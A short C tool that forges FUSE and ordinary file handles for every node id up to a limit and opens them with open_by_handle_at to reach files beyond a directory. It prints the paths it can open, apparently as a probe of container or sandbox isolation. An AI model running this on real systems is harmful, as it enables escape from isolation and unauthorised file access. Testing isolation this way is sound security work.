/* Tries to open what it should not reach, by forged file handles.
 *
 * usage: handles DIRECTORY LAST
 * Opens every node id from 1 to LAST as the FUSE handle (type 0x81: node id in two halves, generation; Linux
 * fs/fuse/inode.c, fuse_encode_fh) on the file system of DIRECTORY, and inode 1 to LAST as the handle of an
 * ordinary file system (type 1: inode, generation). Prints the path of each file that was opened, each ended by NUL. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void try(int dir, int type, const uint32_t *words, unsigned count)
{
    char place[sizeof(struct file_handle) + 3 * sizeof(uint32_t)] __attribute__((aligned(8)));
    struct file_handle *handle = (struct file_handle *)place;
    handle->handle_bytes = count * sizeof(uint32_t);
    handle->handle_type = type;
    memcpy(handle->f_handle, words, handle->handle_bytes);
    int file = open_by_handle_at(dir, handle, O_PATH);
    if (file < 0)
        return;
    char link[64], path[4096];
    snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    ssize_t length = readlink(link, path, sizeof path - 1);
    printf("%.*s%c", (int)(length < 0 ? 0 : length), path, 0); /* names may hold newlines */
    close(file);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dir < 0)
        return 1;
    uint64_t last = strtoull(argv[2], NULL, 10);
    for (uint64_t node = 1; node <= last; node++) {
        try(dir, 0x81, (uint32_t[]){(uint32_t)(node >> 32), (uint32_t)node, 0}, 3);
        try(dir, 1, (uint32_t[]){(uint32_t)node, 0}, 2);
    }
    return 0;
}
